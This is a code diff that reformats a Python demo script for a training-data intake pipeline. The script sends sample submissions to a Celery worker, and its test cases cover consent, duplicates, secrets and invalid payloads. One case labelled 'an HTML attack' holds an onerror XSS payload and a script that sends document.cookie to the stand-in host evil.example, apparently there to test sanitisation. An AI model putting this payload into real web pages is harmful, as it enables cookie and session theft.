@@ -54,31 +54,92 @@ def _cases() -> list[tuple[str, dict[str, Any]]]:
     golden = {"tenant_id": "demo-tenant", "skill_id": "demo-skill"}
     usage = {"tenant_id": "demo-tenant", "skill_id": "demo-skill", "kind": "usage_capture"}
     return [
-        ("golden example by the author", {**golden, "user_id": "demo-alice",
-            "example_input": "Count users per tenant", "quality_score": 9,
-            "example_output": "SELECT tenant_id, count(*) FROM users GROUP BY 1 HAVING count(*) > 1;"}),
-        ("golden example by a non-author", {**golden, "user_id": "demo-bob",
-            "example_input": "hi", "example_output": "hello"}),
-        ("usage capture with consent", {**usage, "user_id": "demo-alice",
-            "usage_event_id": f"evt-{event}-1", "example_input": "if (x<y && y>z) return;",
-            "example_output": "The condition holds when y is between x and z."}),
-        ("same usage event again", {**usage, "user_id": "demo-alice",
-            "usage_event_id": f"evt-{event}-1", "example_input": "again", "example_output": "again"}),
-        ("usage capture without consent", {**usage, "user_id": "demo-bob",
-            "usage_event_id": f"evt-{event}-2", "example_input": "private", "example_output": "x"}),
-        ("usage capture, tenant capture off", {"tenant_id": "demo-tenant-off",
-            "skill_id": "demo-skill-off", "kind": "usage_capture", "user_id": "demo-carol",
-            "usage_event_id": f"evt-{event}-3", "example_input": "ls -la 2>&1",
-            "example_output": "total 0"}),
-        ("a secret in the text", {**usage, "user_id": "demo-alice",
-            "usage_event_id": f"evt-{event}-4",
-            "example_input": "connect with postgres://app:s3cr3t-pw@db.internal/app",
-            "example_output": "export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE"}),
-        ("an HTML attack", {**usage, "user_id": "demo-alice", "usage_event_id": f"evt-{event}-5",
-            "example_input": 'Render <img src=x onerror="alert(1)"> please',
-            "example_output": "<script>fetch('//evil.example/?c='+document.cookie)</script>done"}),
-        ("unknown skill", {**golden, "skill_id": "no-such-skill", "user_id": "demo-alice",
-            "example_input": "a", "example_output": "b"}),
+        (
+            "golden example by the author",
+            {
+                **golden,
+                "user_id": "demo-alice",
+                "example_input": "Count users per tenant",
+                "quality_score": 9,
+                "example_output": "SELECT tenant_id, count(*) FROM users GROUP BY 1;",
+            },
+        ),
+        (
+            "golden example by a non-author",
+            {**golden, "user_id": "demo-bob", "example_input": "hi", "example_output": "hello"},
+        ),
+        (
+            "usage capture with consent",
+            {
+                **usage,
+                "user_id": "demo-alice",
+                "usage_event_id": f"evt-{event}-1",
+                "example_input": "if (x<y && y>z) return;",
+                "example_output": "The condition holds when y is between x and z.",
+            },
+        ),
+        (
+            "same usage event again",
+            {
+                **usage,
+                "user_id": "demo-alice",
+                "usage_event_id": f"evt-{event}-1",
+                "example_input": "again",
+                "example_output": "again",
+            },
+        ),
+        (
+            "usage capture without consent",
+            {
+                **usage,
+                "user_id": "demo-bob",
+                "usage_event_id": f"evt-{event}-2",
+                "example_input": "private",
+                "example_output": "x",
+            },
+        ),
+        (
+            "usage capture, tenant capture off",
+            {
+                "tenant_id": "demo-tenant-off",
+                "skill_id": "demo-skill-off",
+                "kind": "usage_capture",
+                "user_id": "demo-carol",
+                "usage_event_id": f"evt-{event}-3",
+                "example_input": "ls -la 2>&1",
+                "example_output": "total 0",
+            },
+        ),
+        (
+            "a secret in the text",
+            {
+                **usage,
+                "user_id": "demo-alice",
+                "usage_event_id": f"evt-{event}-4",
+                "example_input": "connect with postgres://app:s3cr3t-pw@db.internal/app",
+                "example_output": "export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
+            },
+        ),
+        (
+            "an HTML attack",
+            {
+                **usage,
+                "user_id": "demo-alice",
+                "usage_event_id": f"evt-{event}-5",
+                "example_input": 'Render <img src=x onerror="alert(1)"> please',
+                "example_output": "<script>fetch('//evil.example/?c='+document.cookie)</script>",
+            },
+        ),
+        (
+            "unknown skill",
+            {
+                **golden,
+                "skill_id": "no-such-skill",
+                "user_id": "demo-alice",
+                "example_input": "a",
+                "example_output": "b",
+            },
+        ),
     ]
 
 
@@ -108,8 +169,22 @@ def demo(
 
     console.print(f"[dim]{runtime.describe()}[/dim]")
     worker = subprocess.Popen(
-        [sys.executable, "-m", "celery", "-A", "worker.app", "worker", "--queues", QUEUE,
-         "--concurrency", "1", "--loglevel", "WARNING", "--without-gossip", "--without-mingle"],
+        [
+            sys.executable,
+            "-m",
+            "celery",
+            "-A",
+            "worker.app",
+            "worker",
+            "--queues",
+            QUEUE,
+            "--concurrency",
+            "1",
+            "--loglevel",
+            "WARNING",
+            "--without-gossip",
+            "--without-mingle",
+        ],
         env=os.environ.copy(),
     )
     sent: list[tuple[str, str]] = []
@@ -121,15 +196,28 @@ def demo(
                 sent.append((label, client.submit(submission)))
             first_id = sent[0][1]
             # A retry of the very same submission: same id, so still one row.
-            client.submit({**dict(_cases()[0][1]), "submission_id": first_id,
-                           "kind": "golden_example"})
+            client.submit(
+                {**dict(_cases()[0][1]), "submission_id": first_id, "kind": "golden_example"}
+            )
             sent.append(("the first one resent (same id)", first_id))
             bad_id = new_submission_id()
             # Bypass the client's validation to show the worker's own.
-            client._app.send_task(SUBMIT_TASK, queue=QUEUE, kwargs={"submission": {
-                "submission_id": bad_id, "kind": "golden_example", "tenant_id": "demo-tenant",
-                "user_id": "demo-alice", "skill_id": "demo-skill", "example_input": "",
-                "example_output": "x", "quality_score": 42}})
+            client._app.send_task(
+                SUBMIT_TASK,
+                queue=QUEUE,
+                kwargs={
+                    "submission": {
+                        "submission_id": bad_id,
+                        "kind": "golden_example",
+                        "tenant_id": "demo-tenant",
+                        "user_id": "demo-alice",
+                        "skill_id": "demo-skill",
+                        "example_input": "",
+                        "example_output": "x",
+                        "quality_score": 42,
+                    }
+                },
+            )
             sent.append(("an invalid payload", bad_id))
 
             table = Table(title="training-intake demo")
@@ -138,8 +226,13 @@ def demo(
             with factory() as session:
                 for label, submission_id in sent:
                     status = client.wait(submission_id, timeout=timeout)
-                    table.add_row(label, submission_id[:8], status.outcome or "-",
-                                  status.reason or "", _stored_excerpt(session, submission_id))
+                    table.add_row(
+                        label,
+                        submission_id[:8],
+                        status.outcome or "-",
+                        status.reason or "",
+                        _stored_excerpt(session, submission_id),
+                    )
         console.print(table)
     finally:
         worker.send_signal(signal.SIGTERM)
